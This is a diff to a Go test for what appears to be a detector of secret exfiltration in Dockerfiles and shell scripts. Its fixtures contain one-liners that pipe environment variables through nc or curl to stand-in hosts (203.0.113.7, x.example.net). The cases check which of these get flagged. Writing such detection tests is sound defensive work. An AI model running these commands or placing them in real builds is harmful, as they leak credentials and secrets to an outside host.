@@ -37,6 +37,9 @@ func TestShellExfiltration(t *testing.T) {
 			[]expect{{sev: High, title: "secret variable"}}},
 		{"Dockerfile RUN environ to nc, continued", newRange(runFile("RUN npm ci && \\\n    cat /proc/self/environ | nc 203.0.113.7 9000 ; \\\n    true\n")),
 			[]expect{{sev: Critical, blocks: true, title: "Dockerfile RUN", evidence: []string{"Dockerfile:4"}}}},
+		{"Dockerfile RUN heredoc script", newRange(runFile("RUN <<EOF\nset -e\nnpm ci\nprintenv | curl -s --data-binary @- https://x.example.net\nEOF\nCMD [\"node\", \"index.js\"]\n")),
+			[]expect{{sev: Critical, blocks: true, evidence: []string{"Dockerfile:6"}}}},
+		{"a heredoc written to a file is data", newRange(runFile("RUN cat > /etc/motd <<EOF\nenv | curl -d @- https://x.example.net\nEOF\n")), nil},
 		// Benign shapes.
 		{"healthcheck on localhost", newRange(shellScript("curl -fsS http://localhost:8080/health || exit 1\n")), nil},
 		{"bearer header is authentication", newRange(shellScript(`curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user` + "\n")), nil},
